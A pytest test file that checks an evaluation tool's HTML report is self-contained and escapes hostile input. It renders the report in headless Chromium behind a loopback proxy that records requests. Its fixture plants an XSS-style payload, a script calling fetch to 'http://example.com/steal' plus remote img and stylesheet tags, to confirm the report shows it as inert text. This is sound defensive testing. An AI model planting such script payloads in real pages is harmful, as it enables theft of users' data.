"""The HTML report opened in headless Chromium: charts render, nothing is fetched.

Skips with a message where Chromium is not installed, and fails instead when
``GRADESET_REQUIRE`` lists ``chromium`` (``.ci/run`` installs Debian's ``chromium`` and sets it). A loopback proxy records every request Chromium makes; a control page
with a remote image proves the recorder works before the report is judged by it.
"""

from __future__ import annotations

import re
import shutil
import socket
import subprocess
import threading
from pathlib import Path

import pytest
from conftest import skip_unless

from gradeset.cli import main

DATA = Path(__file__).parent / "data" / "check"
CHROMIUM = next((p for p in ("/usr/bin/chromium", shutil.which("chromium") or "",
                             shutil.which("chromium-browser") or "") if p and Path(p).exists()), None)
# Chromium's own background traffic (clock sync, component updater, sign-in, safe browsing)
# goes to Google service domains, never the page's doing; everything else counts.
BROWSER_SERVICE_SUFFIXES = (".google.com", ".googleapis.com", ".gvt1.com", ".googleusercontent.com")


def _host(request_line: str) -> str:
    target = request_line.split(" ")[1] if " " in request_line else request_line
    target = target.split("://", 1)[-1]
    return target.split("/", 1)[0].rsplit(":", 1)[0].lower()


@pytest.fixture(autouse=True)
def _needs_chromium():
    skip_unless(CHROMIUM is not None, "chromium", "Chromium is not installed (apt-get install chromium)")


class RecordingProxy:
    """An HTTP proxy on 127.0.0.1 that answers 404 to everything and records the request lines."""

    def __init__(self):
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(16)
        self.sock.settimeout(0.2)
        self.port = self.sock.getsockname()[1]
        self.requests: list[str] = []
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()

    def _serve(self):
        while not self._stop.is_set():
            try:
                conn, _ = self.sock.accept()
            except OSError:
                continue
            with conn:
                conn.settimeout(2)
                try:
                    first = conn.recv(4096).split(b"\r\n", 1)[0].decode("latin-1")
                    self.requests.append(first)
                    conn.sendall(b"HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\nConnection: close\r\n\r\n")
                except OSError:
                    pass

    def page_requests(self) -> list[str]:
        return [r for r in self.requests if not ("." + _host(r)).endswith(BROWSER_SERVICE_SUFFIXES)]

    def close(self):
        self._stop.set()
        self._thread.join(timeout=2)
        self.sock.close()


def chromium(url: str, tmp: Path, *extra: str, proxy: RecordingProxy | None = None) -> subprocess.CompletedProcess:
    args = [CHROMIUM, "--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
            "--disable-background-networking", "--disable-component-update", "--disable-sync",
            "--disable-features=OptimizationHints,MediaRouter,NetworkTimeServiceQuerying", "--no-pings",
            "--disable-domain-reliability", "--disable-client-side-phishing-detection", "--hide-scrollbars",
            f"--user-data-dir={tmp / 'profile'}"]
    if proxy is not None:
        args += [f"--proxy-server=http://127.0.0.1:{proxy.port}", "--proxy-bypass-list=<-loopback>"]
    return subprocess.run([*args, *extra, url], capture_output=True, text=True, timeout=60)


@pytest.fixture(scope="module")
def report_html(tmp_path_factory) -> Path:
    tmp = tmp_path_factory.mktemp("report")
    evil = tmp / "evil.jsonl"
    rows = (DATA / "bad.jsonl").read_text()
    rows += ('{"id": "evil", "prompt": "<img src=http://example.com/x.png>", "responses": [{"text": '
             '"<script>fetch(\'http://example.com/steal\')</script><link rel=stylesheet href=https://example.com/a.css>",'
             ' "score": 0.0, "correct": false}, {"text": "ok", "score": 1.0, "correct": true}]}\n')
    evil.write_text(rows)
    out = tmp / "report.html"
    code = main(["check", str(evil), "--test", str(DATA / "test.jsonl"), "--report", str(out), "--quiet"])
    assert code == 1 and out.exists()
    return out


def test_report_html_is_self_contained(report_html):
    html = report_html.read_text()
    assert "Content-Security-Policy" in html and "default-src 'none'" in html
    # no element loads anything: no src/href attributes at all, no scripts, no @import / url()
    assert not re.search(r"<[^>]+\s(src|href)\s*=", html, re.I)
    assert "<script" not in html.lower() and "@import" not in html and "url(" not in html
    # the hostile row is shown as text
    assert "&lt;script&gt;fetch(" in html and "&lt;img src=http://example.com/x.png&gt;" in html


def test_report_renders_charts_offline_in_chromium(report_html, tmp_path):
    pytest.importorskip("PIL")
    from PIL import Image

    proxy = RecordingProxy()
    try:
        # control: a page that does load a remote image is seen by the recorder
        control = tmp_path / "control.html"
        control.write_text('<html><body><img src="http://example.com/pixel.png"></body></html>')
        chromium(control.as_uri(), tmp_path, "--virtual-time-budget=3000", "--dump-dom", proxy=proxy)
        assert any("example.com" in r for r in proxy.page_requests()), proxy.requests
        proxy.requests.clear()

        dom = chromium(report_html.as_uri(), tmp_path, "--virtual-time-budget=5000", "--dump-dom",
                       proxy=proxy).stdout
        shot = tmp_path / "report.png"
        chromium(report_html.as_uri(), tmp_path, f"--screenshot={shot}", "--window-size=1280,2000", proxy=proxy)
        assert proxy.page_requests() == [], f"the report made network requests: {proxy.requests}"
        assert not any("example.com" in r for r in proxy.requests)
    finally:
        proxy.close()

    # the DOM after rendering: every chart is an SVG with drawn bars of positive size
    svgs = re.findall(r"<svg class=\"chart\".*?</svg>", dom, re.S)
    assert len(svgs) >= 10, len(svgs)  # stages, buckets, 4 histograms, 4 slice charts
    titles = " ".join(re.findall(r"<title>(.*?)</title>", dom))
    for name in ("Score histogram", "Pass rate per group", "Prompt length", "Response length",
                 "Bucket composition", "Pass rate per category", "Pass rate per difficulty", "Groups per stage"):
        assert name in titles, name
    heights = [float(h) for h in re.findall(r'<rect class="bar"[^>]*?height="([0-9.]+)"', dom)]
    assert len(heights) > 40 and sum(h > 0 for h in heights) > 20
    widths = [float(w) for w in re.findall(r'<rect class="bar"[^>]*?width="([0-9.]+)"', dom)]
    assert max(widths) > 100  # the bucket and rate bars span real width
    assert dom.count("<details") >= 10  # browsable sample + failing checks

    # the screenshot is a real page, not a blank one
    img = Image.open(shot).convert("RGB")
    assert img.size == (1280, 2000)
    small = img.resize((320, 500))
    raw = small.tobytes()
    pixels = [tuple(raw[i:i + 3]) for i in range(0, len(raw), 3)]
    colours = len(set(pixels))
    non_white = sum(1 for p in pixels if sum(p) < 720) / len(pixels)
    assert colours > 50, colours
    assert non_white > 0.1, non_white
    # the status colours of the badges (red FAIL) and the bucket chart are on screen
    assert any(p[0] > 180 and p[1] < 90 and p[2] < 90 for p in pixels)
